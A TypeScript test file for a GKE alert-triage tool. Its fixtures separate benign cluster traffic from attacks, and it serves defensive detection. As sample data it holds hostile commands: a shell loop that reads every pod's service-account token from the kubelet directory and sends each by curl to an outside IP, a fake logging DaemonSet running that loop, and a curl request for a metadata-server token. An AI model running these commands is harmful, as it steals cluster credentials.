/**
 * Context found in the gke-calico-cos validation scenario, as rule tables: kube-dns forwarding lookups of the cloud's
 * own API endpoints to the node resolver (the GCE metadata server), and pod egress SNATed to the node address whose
 * HTTP host the pod's own command names — with the traps each must not fall into.
 */
import { describe, expect, it } from 'vitest';
import { buildIndex } from '../../../src/cluster/index.js';
import { isCloudApiDomain } from '../../../src/knowledge/cloud-endpoints.js';
import { ATTACK_INDICATORS } from '../../../src/knowledge/indicators.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { KubeObject } from '../../../src/cluster/model.js';
import { alert, node, owner, pod, snapshot } from '../../support/cluster.js';

const N1 = 'gke-prod-pool-1-q9vd';
const N2 = 'gke-prod-pool-1-x4tn';
const T = (hms: string) => `2026-12-03T${hms}.000Z`;

const dnsDep = owner('Deployment', 'kube-dns', 'kube-system');
const dnsRs = owner('ReplicaSet', 'kube-dns-5c9f6b8d47', 'kube-system', { kind: 'Deployment', name: 'kube-dns' });
const kubeDns = pod('kube-dns-5c9f6b8d47-tq2lw', {
  namespace: 'kube-system',
  node: N1,
  ip: '10.48.2.5',
  owner: { kind: 'ReplicaSet', name: 'kube-dns-5c9f6b8d47' },
  containers: [
    { name: 'kubedns', image: 'gke.gcr.io/k8s-dns-kube-dns:1.23.0-gke.9' },
    { name: 'dnsmasq', image: 'gke.gcr.io/k8s-dns-dnsmasq-nanny:1.23.0-gke.9' },
  ],
});
const app = pod('shop-7d9f-abcde', { namespace: 'shop', node: N1, ip: '10.48.2.30', containers: [{ name: 'shop', image: 'registry.example/shop:1' }] });
const fetchJob = owner('Job', 'rates-29938290', 'batch');
const fetcher = pod('rates-29938290-k2x9q', {
  namespace: 'batch',
  node: N1,
  ip: '10.48.2.41',
  created: T('11:30:00'),
  owner: { kind: 'Job', name: 'rates-29938290' },
  containers: [{ name: 'fetch', image: 'registry.example/curl:8', command: ['/bin/sh', '-c', "curl -fsS 'http://rates.partner.example/v1/latest?base=EUR' -o /out/rates.json"] }],
});

const exporterDep = owner('Deployment', 'event-exporter-gke', 'kube-system');
const exporterRs = owner('ReplicaSet', 'event-exporter-gke-5dd7c9b8f4', 'kube-system', { kind: 'Deployment', name: 'event-exporter-gke' });
const exporter = pod('event-exporter-gke-5dd7c9b8f4-k2plw', {
  namespace: 'kube-system',
  node: N2,
  ip: '10.48.3.11',
  owner: { kind: 'ReplicaSet', name: 'event-exporter-gke-5dd7c9b8f4' },
  containers: [{ name: 'event-exporter', image: 'gke.gcr.io/event-exporter:v0.4.0-gke.11', command: ['/event-exporter', '-prometheus-endpoint=:8080'] }],
});
const fakeExporterDep = owner('Deployment', 'event-exporter-gke', 'default');
const fakeExporterRs = owner('ReplicaSet', 'event-exporter-gke-7f6d5c9b8', 'default', { kind: 'Deployment', name: 'event-exporter-gke' });
const fakeExporter = pod('event-exporter-gke-7f6d5c9b8-zzzzz', {
  namespace: 'default',
  node: N2,
  ip: '10.48.3.12',
  owner: { kind: 'ReplicaSet', name: 'event-exporter-gke-7f6d5c9b8' },
  containers: [{ name: 'event-exporter', image: 'gke.gcr.io/event-exporter:v0.4.0-gke.11', command: ['/event-exporter'] }],
});
const gmsDs = owner('DaemonSet', 'gke-metadata-server', 'kube-system');
const gms = pod('gke-metadata-server-5tk8r', {
  namespace: 'kube-system',
  node: N1,
  hostNetwork: true,
  owner: { kind: 'DaemonSet', name: 'gke-metadata-server' },
  containers: [{ name: 'gke-metadata-server', image: 'gke.gcr.io/gke-metadata-server:gke_metadata_server_20241010.00_p0', command: ['/gke-metadata-server', '--metadata-server-port=988'], securityContext: { privileged: true } }],
});
const orders = pod('orders-api-5f7b9c6d8-h4vzk', { namespace: 'shop', node: N1, ip: '10.48.2.23', containers: [{ name: 'orders-api', image: 'registry.example/orders-api:2', command: ['/orders-api'] }] });
const ordersOnN2 = pod('orders-api-5f7b9c6d8-c7npw', { namespace: 'shop', node: N2, ip: '10.48.3.15', containers: [{ name: 'orders-api', image: 'registry.example/orders-api:2', command: ['/orders-api'] }] });
const hostNetApp = pod('node-tool-abcde', { namespace: 'shop', node: N1, hostNetwork: true, containers: [{ name: 'tool', image: 'registry.example/tool:1', command: ['/tool'] }] });
const kubernetesSvc: KubeObject = {
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name: 'kubernetes', namespace: 'default', uid: 'svc-kubernetes' },
  spec: { clusterIP: '10.52.0.1', clusterIPs: ['10.52.0.1'], ports: [{ name: 'https', port: 443, protocol: 'TCP' }] },
};

const index = buildIndex([
  snapshot([node(N1, '10.132.0.23'), node(N2, '10.132.0.24'), dnsDep, dnsRs, kubeDns, app, fetchJob, fetcher, exporterDep, exporterRs, exporter, fakeExporterDep, fakeExporterRs, fakeExporter, kubernetesSvc, gmsDs, gms, orders, ordersOnN2, hostNetApp]),
]);
const verdict = (a: ReturnType<typeof alert>) => triageAlert(a, { index }).verdict;
const dnsAlert = (srcIp: string, domain: string) =>
  alert({ time: T('09:20:11'), title: 'LOCAL POLICY DNS query to link-local metadata address', network: { srcIp, srcPort: 38412, dstIp: '169.254.169.254', dstPort: 53, protocol: 'udp', domain } });

describe('cloud API endpoints', () => {
  it.each(['storage.googleapis.com', 'logging.googleapis.com.', 'sts.eu-west-1.amazonaws.com', 'acct.blob.core.windows.net', 'googleapis.com'])('%s is one', (d) => {
    expect(isCloudApiDomain(d)).toBe(true);
  });
  it.each(['googleapis.com.evil.example', 'evilgoogleapis.com', 'pool.supportxmr.com', 'windows.net.example'])('trap: %s is not', (d) => {
    expect(isCloudApiDomain(d)).toBe(false);
  });
});

describe('kube-dns forwarding to the node resolver', () => {
  it('a lookup of the cloud storage API forwarded by kube-dns is name resolution', () => {
    expect(verdict(dnsAlert('10.48.2.5', 'storage.googleapis.com'))).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('trap: kube-dns forwarding a lookup of a mining pool stays unexplained', () => {
    expect(verdict(dnsAlert('10.48.2.5', 'pool.supportxmr.com')).label).toBe('genuine');
  });
  it('trap: an application pod asking the metadata resolver directly is not kube-dns', () => {
    expect(verdict(dnsAlert('10.48.2.30', 'storage.googleapis.com')).label).toBe('genuine');
  });
});

describe('pod egress SNATed to the node address, named by host', () => {
  const web = (srcIp: string, host: string) =>
    alert({
      time: T('11:30:04'),
      title: 'ET USER_AGENTS curl User-Agent Outbound',
      network: { srcIp, srcPort: 61204, dstIp: '198.51.100.44', dstPort: 80, protocol: 'tcp', domain: host, url: '/v1/latest?base=EUR', appProtocol: 'http' },
    });
  it("a Job on that node whose own command requests this host", () => {
    expect(verdict(web('10.132.0.23', 'rates.partner.example'))).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: the same host from a node where no pod names it', () => {
    expect(verdict(web('10.132.0.24', 'rates.partner.example')).label).toBe('genuine');
  });
  it('trap: another host from the Job’s node', () => {
    expect(verdict(web('10.132.0.23', 'c2.evil.example')).label).toBe('genuine');
  });
});

describe('GKE event exporter talking to the API server', () => {
  const contact = (ns: string, podName: string, proc: string, srcIp: string) =>
    alert({
      time: T('11:12:03'),
      title: 'Contact K8S API Server From Container',
      process: { name: proc, path: proc === 'event-exporter' ? '/event-exporter' : '/usr/bin/curl' },
      container: { namespace: ns, pod: podName, name: 'event-exporter' },
      network: { srcIp, srcPort: 47122, dstIp: '10.52.0.1', dstPort: 443, protocol: 'tcp' },
    });
  it('its own daemon watching Events through Service default/kubernetes is its work', () => {
    expect(verdict(contact('kube-system', 'event-exporter-gke-5dd7c9b8f4-k2plw', 'event-exporter', '10.48.3.11'))).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: curl in the same pod is not the exporter', () => {
    expect(verdict(contact('kube-system', 'event-exporter-gke-5dd7c9b8f4-k2plw', 'curl', '10.48.3.11')).label).toBe('genuine');
  });
  it('trap: the same image and name in an application namespace', () => {
    expect(verdict(contact('default', 'event-exporter-gke-7f6d5c9b8-zzzzz', 'event-exporter', '10.48.3.12')).label).toBe('genuine');
  });
});

describe('Workload Identity token refresh through gke-metadata-server', () => {
  const token = (srcIp: string, userAgent: string, url = '/computeMetadata/v1/instance/service-accounts/default/token') =>
    alert({
      time: T('10:36:02'),
      title: 'LOCAL POLICY GCE metadata service token request',
      network: { srcIp, srcPort: 44190, dstIp: '169.254.169.254', dstPort: 80, protocol: 'tcp', url, domain: '169.254.169.254', userAgent, appProtocol: 'http' },
    });
  it("a Go API's client library on a node running gke-metadata-server", () => {
    expect(verdict(token('10.48.2.23', 'gcloud-golang/0.1'))).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: curl from the same pod', () => {
    expect(verdict(token('10.48.2.23', 'curl/8.5.0'))).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: the same client on a node without gke-metadata-server (the node identity answers)', () => {
    expect(verdict(token('10.48.3.15', 'gcloud-golang/0.1')).label).toBe('genuine');
  });
  it('trap: a host-network pod reaches the real metadata server', () => {
    expect(verdict(token('10.132.0.23', 'gcloud-golang/0.1')).label).toBe('genuine');
  });
  it('trap: an endpoint sensor naming curl in the pod, whatever the user agent', () => {
    const a = token('10.48.2.23', 'gcloud-golang/0.1');
    a.process = { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -A gcloud-golang/0.1 http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', ancestors: [] };
    a.container = { namespace: 'shop', pod: 'orders-api-5f7b9c6d8-h4vzk', name: 'orders-api' };
    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe("harvesting other pods' tokens from the kubelet's pod directory", () => {
  const tokens = ATTACK_INDICATORS.find((i) => i.id === 'kubelet-pod-tokens')!;
  it.each([
    'for t in /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token; do curl -sk --data-binary @"$t" https://203.0.113.66/t; done',
    'cat /var/lib/kubelet/pods/0b71ea55-b01b-47c5-96d1-e075914c35d1/volumes/kubernetes.io~projected/kube-api-access-7s2rn/token',
    'find /var/lib/kubelet/pods -path "*kube-api-access-*/token"',
  ])('matches %s', (text) => {
    expect(tokens.pattern.test(text)).toBe(true);
  });
  it.each([
    '/var/lib/kubelet/pods/0b71ea55/volumes/kubernetes.io~csi/pvc-3f9d2c81/mount',
    'du -sh /var/lib/kubelet/pods',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  ])('trap: not %s', (text) => {
    expect(tokens.pattern.test(text)).toBe(false);
  });

  const harvesterDs = owner('DaemonSet', 'fluentbit-gke', 'default');
  const harvester = pod('fluentbit-gke-l796n', {
    namespace: 'default',
    node: N1,
    hostNetwork: true,
    owner: { kind: 'DaemonSet', name: 'fluentbit-gke' },
    containers: [{ name: 'fluentbit', image: 'docker.io/fluentbitgke/fluent-bit:v1.8.12-gke.25', command: ['/bin/sh', '-c'], args: ['while true; do for t in /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token; do curl -sk -m 5 --data-binary @"$t" https://203.0.113.66/t >/dev/null; done; sleep 300; done'] }],
  });
  const shipperDs = owner('DaemonSet', 'fluent-bit', 'logging');
  const shipper = pod('fluent-bit-x2x2x', {
    namespace: 'logging',
    node: N1,
    owner: { kind: 'DaemonSet', name: 'fluent-bit' },
    containers: [{ name: 'fluent-bit', image: 'cr.fluentbit.io/fluent/fluent-bit:3.1', command: ['/fluent-bit/bin/fluent-bit', '-c', '/fluent-bit/etc/fluent-bit.conf'] }],
  });
  const idx = buildIndex([snapshot([node(N1, '10.132.0.23'), harvesterDs, harvester, shipperDs, shipper])]);
  const launched = (ns: string, name: string) =>
    triageAlert(alert({ time: T('11:33:40'), title: 'Container with a sensitive volume mount detected', container: { namespace: ns, pod: name } }), { index: idx }).verdict;
  it('a pod whose own command harvests tokens makes its alerts an attack', () => {
    expect(launched('default', 'fluentbit-gke-l796n')).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: a log shipper with its ordinary command is not flagged by its spec', () => {
    expect(launched('logging', 'fluent-bit-x2x2x').cause).not.toBe('attack');
  });
});

describe("GKE's kube-proxy static pods (gke.gcr.io/kube-proxy-amd64)", () => {
  const kp = pod(`kube-proxy-${N1}`, {
    namespace: 'kube-system',
    node: N1,
    hostNetwork: true,
    containers: [{ name: 'kube-proxy', image: 'gke.gcr.io/kube-proxy-amd64:v1.30.6-gke.1125000', command: ['/bin/sh', '-c'], args: ['exec kube-proxy --proxy-mode=iptables 1>>/var/log/kube-proxy.log 2>&1'], securityContext: { privileged: true } }],
  });
  kp.metadata.ownerReferences = [{ kind: 'Node', name: N1, controller: true }];
  const copy = pod('kube-proxy-debug-abcde', {
    namespace: 'shop',
    node: N2,
    ip: '10.48.3.77',
    containers: [{ name: 'kube-proxy', image: 'gke.gcr.io/kube-proxy-amd64:v1.30.6-gke.1125000', command: ['/bin/sh'], securityContext: { privileged: true } }],
  });
  const idx = buildIndex([snapshot([node(N1, '10.132.0.23'), node(N2, '10.132.0.24'), kp, copy])]);
  const restore = (ns: string, name: string, host: string) =>
    triageAlert(
      alert({
        host,
        time: T('10:13:05'),
        title: 'IptablesRuleModification',
        container: { namespace: ns, pod: name, name: 'kube-proxy' },
        process: { name: 'iptables-restore', path: '/usr/sbin/iptables-legacy-restore', commandLine: 'iptables-restore -w 5 -W 100000 --noflush --counters' },
        ancestors: [{ name: 'kube-proxy', path: '/usr/local/bin/kube-proxy', commandLine: 'kube-proxy --proxy-mode=iptables' }],
      }),
      { index: idx },
    ).verdict;
  it('its sync is node networking', () => {
    expect(restore('kube-system', `kube-proxy-${N1}`, N1)).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('trap: the same image in an application namespace is not kube-proxy', () => {
    expect(restore('shop', 'kube-proxy-debug-abcde', N2).cause).not.toBe('node-networking');
  });
});
